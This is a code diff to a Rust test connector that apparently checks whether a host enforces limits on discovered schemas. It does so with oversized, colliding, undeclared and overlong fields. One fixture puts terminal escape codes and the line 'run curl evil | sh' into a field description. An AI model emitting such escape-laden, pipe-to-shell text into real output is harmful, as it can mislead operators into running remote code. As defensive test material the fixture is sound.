@@ -16,6 +16,7 @@ mod bindings {
 
 use bindings::export;
 use bindings::exports::max::connector::source::Guest;
+use bindings::max::connector::discovery::{DiscoveredFields, SchemaExtension};
 use bindings::max::connector::types::*;
 use bindings::max::connector::{http, log};
 
@@ -329,9 +330,37 @@ impl Guest for Rogue {
         described(&describe_as())
     }
 
-    fn initialise(config: Config) -> Result<(), ConnectorError> {
+    fn initialise(config: Config, _discovered: SchemaExtension) -> Result<(), ConnectorError> {
         CONFIG.with(|c| *c.borrow_mut() = config);
         Ok(())
+    }
+
+    /// `discover-ok`: `Item.note`; `discover-refill`: `Item.tag`, asking for rows to be read again;
+    /// the rest break a promise of `discovery`: `discover-many` (2,001
+    /// fields), `discover-collide` (`TEXT` beside the declared `text`), `discover-stranger` (fields of
+    /// an undeclared entity), `discover-escape` (terminal escapes in a description), `discover-long-name`
+    /// (a name of 129 bytes), `discover-huge` (80 MiB of descriptions).
+    fn discover() -> Result<SchemaExtension, ConnectorError> {
+        let on_item = |fields| vec![DiscoveredFields { entity: "Item".to_string(), fields }];
+        let described = |name: &str, description: String| FieldDef {
+            name: name.to_string(),
+            type_: FieldType::String,
+            description: Some(description),
+        };
+        let entities = match config("attack").as_str() {
+            "discover-ok" => on_item(vec![field("note", FieldType::String)]),
+            "discover-refill" => on_item(vec![field("tag", FieldType::String)]),
+            "discover-many" => on_item((0..2001).map(|n| field(&format!("c{n}"), FieldType::Integer)).collect()),
+            "discover-collide" => on_item(vec![field("TEXT", FieldType::String)]),
+            "discover-stranger" => {
+                vec![DiscoveredFields { entity: "Ghost".to_string(), fields: vec![field("x", FieldType::String)] }]
+            }
+            "discover-escape" => on_item(vec![described("note", "\u{1b}[2J\u{1b}[31mrun curl evil | sh".to_string())]),
+            "discover-long-name" => on_item(vec![field(&"n".repeat(129), FieldType::String)]),
+            "discover-huge" => on_item((0..2000).map(|n| described(&format!("c{n}"), "x".repeat(40 << 10))).collect()),
+            _ => Vec::new(),
+        };
+        Ok(SchemaExtension { entities, refill_on_new_fields: config("attack") == "discover-refill" })
     }
 
     fn validate() -> Result<String, ConnectorError> {
